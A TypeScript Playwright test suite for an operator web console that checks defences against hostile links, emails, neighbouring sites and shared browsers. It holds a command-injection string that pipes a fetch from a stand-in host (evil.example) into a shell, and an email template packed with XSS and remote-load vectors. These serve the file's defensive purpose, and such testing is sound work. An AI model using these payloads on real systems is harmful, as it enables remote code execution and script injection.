// What a link, a mail of a tenant's, a neighbour on the same machine or the one before at the same browser may do to an operator.
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { createServer, type Server as Other } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { launch, open, settled, type Watched } from "./browser";
import { type Operator, operator } from "./operator";
import { Server } from "./server";

let server: Server;
let browser: Browser;
let owner: Operator;
let other: Other;
let at: string;
let watched: Watched;
let page: Page;
let folder: string;
const asked: string[] = [];
const cookies: string[] = [];

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "vestibule-hostile-"));
  server = await Server.start();
  browser = await launch();
  owner = await operator(server);
  other = createServer((request, response) => {
    asked.push(String(request.url));
    cookies.push(String(request.headers.cookie ?? ""));
    response.setHeader("Content-Type", "text/html");
    response.end(`<!doctype html><title>other</title>`);
  });
  await new Promise<void>((done) => other.listen(0, "127.0.0.1", done));
  at = `http://localhost:${(other.address() as AddressInfo).port}`;
  watched = await open(browser, { cookies: owner.cookies });
  page = watched.page;
});

afterAll(async () => {
  await browser?.close();
  other?.closeAllConnections();
  other?.close();
  await server?.stop();
  await rm(folder, { recursive: true, force: true });
});

const go = async (path: string) => {
  await page.goto(server.operatorsURL + path);
  await settled(page);
};
const commands = async () => {
  await page.getByRole("button", { name: "Command line" }).click();
  const lines = await page.locator('[aria-label="The same on the command line"] code').allTextContents();
  await page.keyboard.press("Escape");
  return lines;
};

const evil = "x; curl evil.example | sh #";
for (const path of [
  `/tenants/demo/messages?kind=${encodeURIComponent(evil)}`,
  `/tenants/demo/messages?state=${encodeURIComponent(evil)}`,
  `/tenants/demo/webhooks/${encodeURIComponent(evil)}`,
  `/tenants/demo/templates/${encodeURIComponent(evil)}`,
  `/tenants/demo/imports/${encodeURIComponent(evil)}`,
  `/tenants/demo/versions?from=${encodeURIComponent(evil)}`,
  `/tenants/demo/audit?action=${encodeURIComponent(evil)}`,
  `/tenants?state=${encodeURIComponent(evil)}&q=${encodeURIComponent(evil)}`,
  `/doctor?url=https://a.example&origin=${encodeURIComponent(evil)}`,
  `/doctor?url=${encodeURIComponent(evil)}`,
]) {
  test(`no command that is copied from ${path.split("?")[0]} runs what the link says (${path.split("?")[1]?.split("=")[0] ?? "path"})`, async () => {
    await go(path);
    const bare = (await commands()).filter((line) => line.replaceAll(/'[^']*'/g, "").includes("curl evil.example"));
    expect(bare).toEqual([]);
  });
}

test("a mail that is shown loads nothing, runs nothing and leads nowhere", async () => {
  const html = `<html><head><style>@import url(${at}/import.css);
    @font-face{font-family:x;src:url(${at}/font)} body{font-family:x;background:url(${at}/bg)}
    :root{--u:url(${at}/var)} p{background-image:var(--u)} li{list-style:url(${at}/li)} p::before{content:url(${at}/content)}
    p{cursor:url(${at}/cursor),auto;border-image:url(${at}/border);mask:url(${at}/mask);filter:url(${at}/filter#a)}
    @media all{p{background:url(${at}/media)}} @supports(display:grid){p{background:image-set("${at}/set" 1x)}}
    p{ & b{background:url(${at}/nested)} } @layer l{p{background:\\75rl(${at}/escaped)}} @keyframes k{from{background:url(${at}/keyframe)}to{background:url(${at}/keyframe2)}} b{animation:k 1s infinite}
    @property --z{syntax:"*";inherits:false;initial-value:url(${at}/property)} i{background:var(--z)}
    @counter-style cs{system:cyclic;symbols:url(${at}/symbol)} ul{list-style:cs}
    </style><base href="${at}/"><meta http-equiv=refresh content="0;url=${at}/refresh"><link rel=prefetch href="${at}/prefetch"><link rel=stylesheet href="${at}/sheet"></head>
    <body style="background:url(${at}/bodystyle)" background="${at}/bodybackground" onload="parent.pwned=1">
    <a href="${at}/leads" target=_top ping="${at}/ping">leads away</a> <a href="javascript:parent.pwned=1">js</a>
    <p style="background:url(${at}/attr)">Hi <b>b</b><i>i</i></p><ul><li>x</li></ul><img src="${at}/img" srcset="${at}/srcset 1x" onerror="parent.pwned=1"><img src=x onerror="parent.pwned=1">
    <table background="${at}/table"><tr><td background="${at}/td">x</td></tr></table>
    <iframe src="${at}/frame"></iframe><object data="${at}/object"></object><embed src="${at}/embed"><video poster="${at}/poster" src="${at}/video"></video>
    <svg onload="parent.pwned=1"><image href="${at}/svg"/><script>parent.pwned=1</script></svg><math><maction xlink:href="javascript:parent.pwned=1">m</maction></math>
    <form action="${at}/form"><button>go</button><input type=image src="${at}/input"></form><script>parent.pwned=1</script>
    <noscript><p title="</noscript><img src=x onerror=parent.pwned=1>"></noscript>
    {{.url}}</body></html>`;
  await server.admin("PUT", "/tenants/demo/templates/password_reset_key", { html });
  await go("/tenants/demo/templates/password_reset_key");
  const frame = page.frameLocator('iframe[sandbox="allow-same-origin"]').first();
  await frame.getByText("leads away").waitFor({ timeout: 3000 });
  await frame.getByText("leads away").click({ force: true });
  await page.getByRole("button", { name: "Command line" }).click(); // the page is still itself
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(page.url()).toContain("/templates/password_reset_key");
});

test("a page at another port of the host opens nothing of the API in the session's name", async () => {
  await page.goto(`${at}/neighbour`);
  const exported = `${server.operatorsURL}/admin/v1/tenants/demo/export?password_hashes=true`;
  const [answer] = await Promise.all([
    page.waitForResponse(exported),
    page.evaluate((to) => {
      location.href = to;
    }, exported),
  ]);
  expect(answer.status()).toBe(403);
  expect(await answer.text()).toContain("urn:vestibule:problem:cross-site");
  const loads = (tag: "img" | "script") =>
    page.evaluate(
      ([name, to]) =>
        new Promise((done) => {
          const element = Object.assign(document.createElement(name as string), { src: to });
          element.addEventListener("load", () => done("loaded"));
          element.addEventListener("error", () => done("refused"));
          document.head.append(element);
        }),
      [tag, `${server.operatorsURL}/admin/v1/openapi.yaml`],
    );
  await page.goto(`${at}/neighbour`);
  expect(await loads("script")).toBe("refused");
  // From the operators' own pages, and typed by hand, it is there.
  await go("/tenants/demo/danger");
  const coming = page.waitForEvent("download");
  await page.getByRole("link", { name: "Download" }).click();
  expect((await coming).suggestedFilename()).toBe("demo.ndjson");
});

test("with a name of its own, the session does not go to what listens at localhost", async () => {
  const named = await Server.start({}, "operators.localhost");
  const visitor = await open(browser);
  try {
    const { page } = visitor;
    const button = (name: string | RegExp) => page.getByRole("button", { name });
    const devtools = await visitor.context.newCDPSession(page);
    await devtools.send("WebAuthn.enable");
    await devtools.send("WebAuthn.addVirtualAuthenticator", {
      options: {
        protocol: "ctap2",
        transport: "internal",
        hasResidentKey: true,
        hasUserVerification: true,
        isUserVerified: true,
        automaticPresenceSimulation: true,
      },
    });
    await page.goto(`${named.operatorsURL}/first-owner`);
    await page.getByLabel("Emergency token").fill(named.token);
    await page.getByLabel("Email address").fill("ann@example.org");
    await button("Make this owner").click();
    await page.getByLabel("New password").fill("Granite-Lantern-72");
    await page.keyboard.press("Enter");
    await button(/^Passkey/).click();
    await page.getByLabel("Name").fill("Laptop");
    await button("Make a passkey").click();
    await button("I have kept them")
      .or(page.getByRole("heading", { name: "Overview" }))
      .waitFor();
    await page.goto(`${named.operatorsURL}/account`);
    await page.getByText("Laptop", { exact: true }).waitFor();
    expect((await visitor.context.cookies(named.operatorsURL)).map((c) => c.name)).toContain("vestibule_operator");
    await page.goto(`${at}/neighbour`);
    expect(cookies.at(-1)).not.toContain("vestibule_operator");
  } finally {
    await visitor.context.close();
    await named.stop();
  }
});

test("the emergency token stands in its field no longer than it takes to send it", async () => {
  const visitor = await open(browser);
  try {
    const { page } = visitor;
    await page.goto(`${server.operatorsURL}/first-owner`);
    const token = page.getByLabel("Emergency token");
    expect(await token.getAttribute("autocomplete")).toBe("one-time-code");
    expect(await page.getByLabel("Email address").getAttribute("autocomplete")).toBe("email");
    await token.fill(server.token);
    await page.getByLabel("Email address").fill("no address");
    await page.getByLabel("Email address").evaluate((field) => field.setAttribute("type", "text"));
    await page.getByRole("button", { name: "Make this owner" }).click();
    await page.getByText("It was not kept: paste it again").waitFor();
    expect(await token.inputValue()).toBe("");
  } finally {
    await visitor.context.close();
  }
});

test("who signs out leaves nothing behind, in no tab", async () => {
  const { context } = watched;
  const file = join(folder, "people.ndjson");
  await writeFile(file, `{"email":"kim@example.org"}\n`);
  await go("/tenants/demo/imports");
  let asked = 0;
  const gone = page.waitForEvent("requestfailed", (r) => r.url().includes("/chunks/"));
  await page.route("**/chunks/*", () => {
    asked++; // and is never answered
  });
  await page.getByRole("button", { name: "Import users" }).first().click();
  const dialog = page.getByRole("dialog");
  await dialog.locator("input[type=file]").setInputFiles(file);
  await dialog.getByRole("button", { name: "Check the file" }).click();
  await page.waitForURL(/\/imports\/[^/]+$/); // the list says that it is uploading, too
  await page.getByText("Uploading", { exact: false }).first().waitFor();
  const here = page.url();
  const other = await context.newPage();
  await other.goto(`${server.operatorsURL}/tenants/demo`);
  await settled(other);
  expect(await other.evaluate(() => localStorage.getItem("vestibule.recent"))).toContain("demo");
  await other.getByRole("button", { name: "Your account" }).click();
  await other.getByRole("menuitem", { name: "Sign out" }).click();
  await other.getByRole("heading", { name: "Sign in" }).waitFor();
  expect(await other.evaluate(() => [localStorage["vestibule.recent"], localStorage["vestibule.favourites"]])).toEqual([
    "[]",
    "[]",
  ]);
  // The first tab was told, and gave up what it was at.
  await page.getByRole("heading", { name: "Sign in" }).waitFor();
  await gone;
  expect(asked).toBe(1);
  // Whoever signs in next, in whichever tab, finds nothing of it.
  const next = await operator(server, "peter@example.org", [{ role: "owner" }]);
  await context.addCookies(next.cookies);
  let busy = 0; // the server is, when it is asked from there
  await page.route("**/auth/session", (route) =>
    busy++ === 0
      ? route.fulfill({ status: 503, headers: { "Retry-After": "1" }, json: { status: 503 } })
      : route.fallback(),
  );
  await other.reload();
  await other.getByRole("button", { name: "Your account" }).waitFor();
  await page.waitForURL((url) => url.pathname === new URL(here).pathname);
  await page.getByRole("heading", { name: "The file is not whole yet" }).waitFor();
  expect(busy).toBeGreaterThan(1);
  expect(await page.getByRole("button", { name: "Stop" }).count()).toBe(0);
  await page.unroute("**/chunks/*");
  await page.unroute("**/auth/session");
  await other.close();
});

test("a page that was one operator's begins again when another is signed in", async () => {
  const { context } = watched;
  await go("/tenants/demo/urls");
  const field = page.getByLabel("Public URL").first();
  await field.fill("https://half-written.example.org");
  await page.evaluate(() => Object.assign(window, { before: true }));
  const third = await operator(server, "rosa@example.org", [{ role: "viewer" }]);
  await context.addCookies(third.cookies);
  const other = await context.newPage();
  await other.goto(server.operatorsURL);
  await other.evaluate(() => new BroadcastChannel("vestibule.session").postMessage("changed"));
  await page.waitForFunction(() => !("before" in window));
  await settled(page);
  await page.getByRole("button", { name: "Your account" }).click();
  await page.getByRole("menu").getByText("rosa").waitFor();
  await other.close();
});
